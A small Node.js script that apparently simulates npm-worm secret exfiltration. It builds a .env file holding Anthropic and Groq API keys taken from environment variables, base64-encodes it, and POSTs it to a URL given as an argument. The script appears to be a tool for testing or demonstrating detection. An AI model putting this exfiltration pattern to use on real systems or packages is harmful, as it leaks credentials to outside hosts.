// Posts a base64'd .env file, as the npm worms do at postinstall. usage: ANTHROPIC=… GROQ=… node post_env_base64.mjs URL
import { request } from "node:http";

const env = [
  "# production",
  "NODE_ENV=production",
  "DATABASE_URL=postgres://app@db.internal:5432/app",
  `ANTHROPIC_API_KEY=${process.env.ANTHROPIC}`,
  `GROQ_API_KEY="${process.env.GROQ}"`,
  "PORT=3000",
  "",
].join("\n");

const body = JSON.stringify({ host: "build-17", data: Buffer.from(env).toString("base64") });
const post = request(process.argv[2], {
  method: "POST",
  headers: { "content-type": "application/json", "content-length": Buffer.byteLength(body) },
}, (answer) => {
  answer.resume();
  if (answer.statusCode !== 200) process.exitCode = 1;
});
post.end(body);
